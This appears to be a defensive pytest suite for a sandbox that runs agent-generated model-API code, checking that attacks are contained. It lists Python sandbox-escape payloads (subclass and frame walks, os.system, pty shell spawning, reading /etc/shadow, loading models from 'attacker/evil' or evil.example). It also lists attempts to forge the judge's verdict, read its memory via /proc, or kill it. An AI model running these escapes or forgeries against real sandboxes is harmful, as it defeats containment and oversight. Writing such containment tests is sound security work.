"""The sandbox attack suite: every attack the project knows of, with the exact outcome it
must get, on the real sandbox. Add each new attack here.

- `ATTACKS`: generated code through the executor, Python guards on (static check, audit
  hook, restricted builtins, module views, the judge in a separate process);
- `FORGERIES`: the code process fully subverted (guards off) trying to forge the verdict,
  which the judge and the per-run secret must contain;
- the host's reading of a report, fed malformed and hostile reports.

BENCHMARKS.md counts these (attacks tried / contained); `test_attack_counts` keeps the
count honest.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.resolve import CallResolver
from agent.sandbox import Sandbox, SandboxExecutor, policy, protocol
from agent.sandbox.executor import live_callable_allowed
from agent.sandbox.protocol import make_job
from apidb import APIDoc

BART = "pipeline('summarization', model='facebook/bart-large-cnn')"

# name -> (code, the exact status it must get)
ATTACKS: dict[str, tuple[str, str]] = {
    # --- from the first security review
    "subclasses walk": (
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('id')",
        "blocked",
    ),
    "frame walk": ("g = (x for x in [1])\ng.gi_frame.f_back.f_globals", "blocked"),
    "sys.modules": ("import sys\nsys.modules['os'].system('id')", "blocked"),
    "importlib": ("import importlib\nimportlib.import_module('os').system('id')", "blocked"),
    "__import__": ("__import__('os').system('id')", "blocked"),
    "ctypes": ("import ctypes\nctypes.CDLL(None).system(b'id')", "blocked"),
    "format walk": ("'{0.__class__.__init__.__globals__}'.format(pipeline)", "blocked"),
    "os.system": ("import os\nos.system('touch /tmp/pwned')", "blocked"),
    "subprocess": ("import subprocess\nsubprocess.run(['id'])", "blocked"),
    "pty": ("import pty\npty.spawn('/bin/sh')", "blocked"),
    "eval": ("eval('1+1')", "blocked"),
    "open shadow": ("open('/etc/shadow').read()", "blocked"),
    "socket": ("import socket\nsocket.create_connection(('127.0.0.1', 8000))", "blocked"),
    "trust_remote_code": (BART[:-1] + ", trust_remote_code=True)", "blocked"),
    "model id is a path": (
        "from transformers import AutoModel\nAutoModel.from_pretrained('/root/.ssh')",
        "blocked",
    ),
    "path through a variable": (
        "from transformers import AutoModel\np = '/' + 'etc'\nAutoModel.from_pretrained(p)",
        "blocked",
    ),
    "trust_remote_code through a variable": (
        "flag = 1 == 1\n" + BART[:-1] + ", trust_remote_code=flag)",
        "blocked",
    ),
    "private attribute": ("import random\nrandom._os.system('id')", "blocked"),
    "module reach-through": ("import datetime\ndatetime.sys.modules", "blocked"),
    "threads": ("import threading\nthreading.Thread(target=print).start()", "blocked"),
    # --- issue #17: the guard switched off from inside, and the verdict forged
    "match class pattern": (
        "match pipeline:\n    case object(__class__=R):\n        print(R)",
        "blocked",
    ),
    "match capture of a dunder": ("match 1:\n    case __x:\n        pass", "blocked"),
    "import alias of a dunder": (
        "from json import __spec__ as spec\nprint(spec.loader)",
        "blocked",
    ),
    "import of a private name": ("from random import _os\n_os.write(1, b'x')", "blocked"),
    "a function's builtins": ("def f():\n    pass\nf.__builtins__['__import__']('os')", "blocked"),
    "the runner's globals through a format variable": (
        "t = '{0.__init__.__globals__}'\nprint(t.format(pipeline))",
        "blocked",
    ),
    "a format string built at run time": (
        "t = '{0.' + '_' * 2 + 'init' + '_' * 2 + '}'\nprint(t.format(pipeline))",
        "blocked",
    ),
    "a nested format field": ("print('{0:{1.real}}'.format(1, 2))", "blocked"),
    "format_map": ("print('{a}'.format_map({'a': 1}))", "blocked"),
    "string.Formatter": (
        "import string\nstring.Formatter().format('{0.__class__}', 1)",
        "blocked",
    ),
    "get_type_hints evaluates annotations": (
        "import typing\ndef f(x: 'int'):\n    pass\ntyping.get_type_hints(f)",
        "blocked",
    ),
    "a forward reference compiled at run time": (
        "import typing\ntyping.List['().__class__.__base__']",
        "blocked",
    ),
    "a caught violation, then a valid call": (
        "import typing\ntry:\n    typing.List['().__class__']\nexcept Exception:\n    pass\n"
        + BART,
        "blocked",
    ),
    "a caught signature mismatch, then a valid call": (
        "try:\n    hub.load(model='x')\nexcept TypeError:\n    pass\n" + BART,
        "invalid_call",
    ),
    "operator.attrgetter": ("import operator\noperator.attrgetter('real')(1)", "blocked"),
    "a metaclass": ("class A(metaclass=type):\n    pass", "blocked"),
    "async code": ("async def f():\n    pass", "blocked"),
    "a dunder hook in a class": (
        "class A:\n    def __getattribute__(self, name):\n        return 1",
        "blocked",
    ),
    "global __builtins__": ("global __builtins__\n__builtins__ = {}", "blocked"),
    "getattr": ("getattr(pipeline, 'x')", "blocked"),
    "vars": ("vars(pipeline)", "blocked"),
    "relative import": ("from . import x", "blocked"),
    # A module the code imported is a view: a submodule it may not import is not there.
    "a foreign submodule through a view": (
        "import json\njson.codecs.open('/etc/passwd')",
        "api_error",
    ),
    "a forged result printed": (
        'print(\'{"event": "result", "outcome": "completed"}\')',
        "invalid_call",
    ),
    "SystemExit to fake an end": ("raise SystemExit(0)", "api_error"),
    "dataclass field name injection": (
        "import dataclasses\ndataclasses.make_dataclass('X', ['a); import os; (b'])",
        "api_error",
    ),
    "namedtuple field name injection": (
        "import collections\ncollections.namedtuple('P', ['a): 1 #'])",
        "api_error",
    ),
    "recursion bomb": ("def f():\n    return f()\nf()", "api_error"),
    # --- issue #17: calls that would load code from outside the catalog
    "torch.hub.load of an attacker's repository": (
        "torch.hub.load('attacker/evil', 'model', pretrained=True)",
        "blocked",
    ),
    "torch.hub.load from a local directory": (
        "torch.hub.load('pytorch/vision', 'resnet18', source='local')",
        "blocked",
    ),
    # Not in the catalog, so not a call of it (its URL is judged where a doc claims it).
    "a handle on a host that is not a model hub": (
        "import tensorflow_hub as hub\nhub.KerasLayer('https://evil.example/model')",
        "invalid_call",
    ),
}

# Docs an attacker might have put in an older catalog (imports now refuse them): a call of
# one is `blocked`, whatever the call itself looks like.
POISONED_DOCS = [
    APIDoc(
        id="torchhub/attacker/evil",
        hub="torchhub",
        kind="python",
        name="evil",
        call="torch.hub.load(repo_or_dir='attacker/evil', model='evil')",
    ),
    APIDoc(
        id="tensorflowhub/evil",
        hub="tensorflowhub",
        kind="python",
        name="evil",
        call="hub.KerasLayer('https://evil.example/model/1')",
    ),
    APIDoc(
        id="huggingface/payload",
        hub="huggingface",
        kind="python",
        name="payload",
        call="pipeline('summarization', model='x/payload', config=().__class__)",
    ),
]


@pytest.mark.parametrize("doc", POISONED_DOCS, ids=lambda d: d.id)
def test_a_call_of_a_poisoned_catalog_doc_is_blocked(
    executor: SandboxExecutor, resolver: CallResolver, doc: APIDoc
) -> None:
    poisoned = CallResolver([*resolver.docs(), doc])
    call = doc.call.replace(", config=().__class__", "")
    execution = executor.run_code(call, poisoned)
    assert execution.status == "blocked", execution.output


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_contained(executor: SandboxExecutor, resolver: CallResolver, name: str) -> None:
    code, expected = ATTACKS[name]
    execution = executor.run_code(code, resolver)
    assert execution.status == expected, execution.output
    assert not Path("/tmp/pwned").exists()


# What the code's process could do if every Python guard fell: it runs here with real
# builtins and no audit hook, as the same uid as the judge. name -> code; the outcome each
# must get is in FORGERY_OUTCOMES (None: the judge never reported).
FORGERIES: dict[str, str] = {
    "write a completed result to every descriptor": (
        "import os\n"
        'fake = b\'{"event": "result", "exit": 0, "oversized": false, "events": "E {\\\\"outcome\\\\": \\\\"completed\\\\", \\\\"error\\\\": null}\\\\n"}\\n\'\n'
        "for fd in range(256):\n"
        "    try:\n        os.write(fd, fake)\n    except OSError:\n        pass\n"
        "os._exit(0)\n"
    ),
    "open the judge's descriptors and memory through /proc": (
        "import json, os\njudge = os.getppid()\nseen = {}\n"
        "for what in ['fd/0', 'fd/1', 'fd/3', 'fd/4', 'fd/5', 'mem', 'environ']:\n"
        "    try:\n"
        "        with open(f'/proc/{judge}/{what}', 'rb') as f:\n            seen[what] = f.read(64).hex()\n"
        "    except OSError as exc:\n        seen[what] = type(exc).__name__\n"
        "try:\n    seen['fds'] = os.listdir(f'/proc/{judge}/fd')\n"
        "except OSError as exc:\n    seen['fds'] = type(exc).__name__\n"
        "print(json.dumps(seen))\n"
    ),
    "read the secret from stdin": (
        "import os\n"
        "try:\n    print('stdin:', os.read(0, 64))\n"
        "except OSError as exc:\n    print('stdin:', type(exc).__name__)\n"
    ),
    "kill the judge": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
    "claim completion after a refusal": (
        "import os\nfd = [int(n) for n in os.listdir('/proc/self/fd') if int(n) > 2][0]\n"
        "os.write(fd, b'V \"something refused\"\\n')\n"
        'os.write(fd, b\'E {"outcome": "completed", "error": null}\\n\')\nos._exit(0)\n'
    ),
}


FORGERY_OUTCOMES: dict[str, str | None] = {
    "write a completed result to every descriptor": protocol.OUTCOME_MALFORMED,
    "open the judge's descriptors and memory through /proc": protocol.OUTCOME_COMPLETED,
    "read the secret from stdin": protocol.OUTCOME_COMPLETED,
    "kill the judge": None,
    "claim completion after a refusal": protocol.OUTCOME_VIOLATION,
}


@pytest.mark.parametrize("name", list(FORGERIES))
def test_a_subverted_code_process_cannot_forge_the_verdict(
    executor: SandboxExecutor, name: str
) -> None:
    sandbox: Sandbox = executor.sandbox
    run = sandbox.run({**make_job(FORGERIES[name]), "python_guards": False})
    outcome = run.report.outcome if run.report else None
    assert outcome == FORGERY_OUTCOMES[name], (run.stdout, run.stderr)
    if name == "open the judge's descriptors and memory through /proc":
        seen = json.loads(run.stdout.strip().splitlines()[-1])
        # The judge is not dumpable: none of its descriptors or memory can be opened.
        assert all(v in ("PermissionError", "FileNotFoundError") for v in seen.values()), seen
    if name == "read the secret from stdin":
        assert "stdin: OSError" in run.stdout or "stdin: b''" in run.stdout, run.stdout


def test_a_judge_that_never_reports_is_blocked_not_an_exception(
    executor: SandboxExecutor, resolver: CallResolver, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agent.sandbox import process

    real_run = executor.sandbox.run

    def without_guards(job: Any, limits: Any = None) -> process.RawRun:
        killer = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
        return real_run({**job, "code": killer, "python_guards": False}, limits)

    monkeypatch.setattr(executor.sandbox, "run", without_guards)
    assert executor.run_code("x = 1", resolver).status == "blocked"


# --- the host reads reports defensively ------------------------------------------------


def report(events: str, exit_status: int = 0, **extra: Any) -> bytes:
    message = {"event": "result", "exit": exit_status, "oversized": False, "events": events}
    return json.dumps(message | extra).encode()


RECORD = json.dumps({"path": "transformers.pipeline", "entry": True, "args": [], "kwargs": {}})


@pytest.mark.parametrize(
    ("message", "outcome"),
    [
        (b"not json", "malformed"),
        (b"[" * 100_000 + b"]" * 100_000, "malformed"),  # nesting past the parser's limit
        (b'{"event": "started"}', "malformed"),
        (json.dumps({"event": "result"}).encode(), "malformed"),
        (
            report(
                "E " + json.dumps({"outcome": "completed", "error": None}) + "\n", exit_status=True
            ),
            "malformed",
        ),
        (report("", oversized=True), "malformed"),
        (
            json.dumps({"event": "result", "exit": 0, "oversized": False, "events": 7}).encode(),
            "malformed",
        ),
        (report("R " + RECORD + "\n"), "exited"),  # no end line: the code ended itself
        (report('R {"path": 1}\n'), "malformed"),
        (
            report(
                "R "
                + json.dumps(
                    {
                        "path": "p",
                        "entry": True,
                        "args": [[[[[[[[[[[[[[[1]]]]]]]]]]]]]]],
                        "kwargs": {},
                    }
                )
                + "\n"
            ),
            "malformed",
        ),
        (report('X "what"\n'), "malformed"),
        (report('E {"outcome": "won"}\n'), "malformed"),
        (report('E {"outcome": "completed", "error": null}\nR ' + RECORD + "\n"), "malformed"),
        (report('V "refused"\nE {"outcome": "completed", "error": null}\n'), "violation"),
        (report('S "mismatch"\nE {"outcome": "completed", "error": null}\n'), "signature"),
        (report('E {"outcome": "completed", "error": null}\n', exit_status=3), "malformed"),
        (report("", exit_status=-24), "killed"),
        (report("R " + RECORD + '\nE {"outcome": "completed", "error": null}\n'), "completed"),
    ],
)
def test_reports_are_read_defensively(message: bytes, outcome: str) -> None:
    assert protocol.parse_report(message).outcome == outcome


def _containers_of(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=300),
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
            _containers_of,
            max_leaves=20,
        ).map(
            lambda v: json.dumps(
                {"event": "result", "exit": 0, "oversized": False, "events": v}
            ).encode()
        ),
        st.lists(st.tuples(st.sampled_from("RVSEX"), st.text(max_size=40)), max_size=6).map(
            lambda lines: report("".join(f"{t} {p}\n" for t, p in lines))
        ),
    )
)
def test_no_report_makes_the_host_raise(message: bytes) -> None:
    parsed = protocol.parse_report(message)
    assert parsed.outcome in {
        "completed", "violation", "signature", "syntax", "error", "memory", "exited", "killed", "malformed",
    }  # fmt: skip


def test_a_report_needs_the_runs_secret() -> None:
    secret = b"a" * protocol.SECRET_BYTES
    line = secret + b" " + report("")
    assert protocol.authenticated(line, secret) == report("")
    assert protocol.authenticated(line, b"b" * protocol.SECRET_BYTES) is None
    assert protocol.authenticated(report(""), secret) is None
    assert protocol.authenticated(line, b"short") is None


# --- honest code is not mistaken for an attack ----------------------------------------------

# A use of every standard-library module the policy allows.
HONEST_STDLIB = {
    "math": "math.sqrt(2)",
    "cmath": "cmath.sqrt(-1)",
    "json": "json.loads(json.dumps({'a': [1]}))",
    "re": "re.sub(r'\\s+', ' ', 'a  b')",
    "itertools": "list(itertools.chain([1], [2]))",
    "collections": "collections.Counter('abca').most_common(1)\ncollections.namedtuple('P', 'x y')(1, 2)",
    "string": "string.Template('$x').substitute(x=1)\nprint('{} {name:>{w}}'.format(1, name=2, w=3))",
    "random": "random.Random(1).random()",
    "statistics": "statistics.mean([1, 2, 3])",
    "datetime": "datetime.datetime.strptime('2024-01-02', '%Y-%m-%d').strftime('%d')",
    "decimal": "decimal.Decimal('1.1') + decimal.Decimal('2.2')",
    "fractions": "fractions.Fraction(1, 3) * 3",
    "typing": "x: typing.List[int] = [1]\ntyping.Optional['int']",
    "dataclasses": "P = dataclasses.make_dataclass('P', ['x'])\nP(1)\n@dataclasses.dataclass(frozen=True, order=True)\nclass Q:\n    y: int = 2\nQ() < Q(3)",
    "enum": "E = enum.Enum('E', 'A B')\nE.A",
    "textwrap": "textwrap.fill('hello world', 5)",
    "heapq": "heapq.nsmallest(1, [3, 1])",
    "bisect": "bisect.bisect([1, 3], 2)",
    "copy": "copy.deepcopy({'a': [1]})",
    "uuid": "uuid.uuid4()\nuuid.uuid5(uuid.NAMESPACE_DNS, 'x')",
    "base64": "base64.b64encode(b'x')",
    "hashlib": "hashlib.sha256(b'x').hexdigest()",
    "numbers": "isinstance(1, numbers.Number)",
    "array": "array.array('i', [1, 2])",
    "time": "time.time()\ntime.strftime('%Y')",
    "calendar": "calendar.monthrange(2024, 2)",
    "pprint": "pprint.pformat({'a': 1})",
    "difflib": "difflib.SequenceMatcher(None, 'ab', 'ac').ratio()",
    "unicodedata": "unicodedata.name('a')",
}


def test_every_allowed_module_is_covered() -> None:
    assert set(HONEST_STDLIB) == set(policy.SAFE_STDLIB)


@pytest.mark.parametrize("module", sorted(HONEST_STDLIB))
def test_honest_code_using_an_allowed_module_is_ok(
    executor: SandboxExecutor, resolver: CallResolver, module: str
) -> None:
    code = f"import {module}\n{HONEST_STDLIB[module]}\n{BART}"
    execution = executor.run_code(code, resolver)
    assert execution.status == "ok", execution.output


def test_a_class_with_ordinary_methods_and_a_deep_argument_is_honest(
    executor: SandboxExecutor, resolver: CallResolver
) -> None:
    code = (
        "class Summary:\n    def __init__(self, text):\n        self.text = text\n"
        "    def __repr__(self):\n        return f'Summary({self.text!r:>5})'\n"
        "x = []\nfor _ in range(10000):\n    x = [x]\n"
        "summarizer = pipeline('summarization', model='facebook/bart-large-cnn', config=x)\n"
        "print(Summary('done'))"
    )
    execution = executor.run_code(code, resolver)
    assert execution.status == "ok", execution.output


def test_live_allow_lists_name_exact_functions() -> None:
    allow = ["math:*", "statistics:mean"]
    assert live_callable_allowed("math:gcd", allow)
    assert live_callable_allowed("statistics:mean", allow)
    assert not live_callable_allowed("statistics:median", allow)
    assert not live_callable_allowed("statistics:random._os.write", ["statistics:*"])
    assert not live_callable_allowed("math:_private", allow)
    assert not live_callable_allowed("mathx:gcd", allow)


def test_attack_counts() -> None:
    """The figures BENCHMARKS.md quotes for the sandbox part of the attack suite."""
    assert len(ATTACKS) == 51 and len(FORGERIES) == 5 and len(POISONED_DOCS) == 3
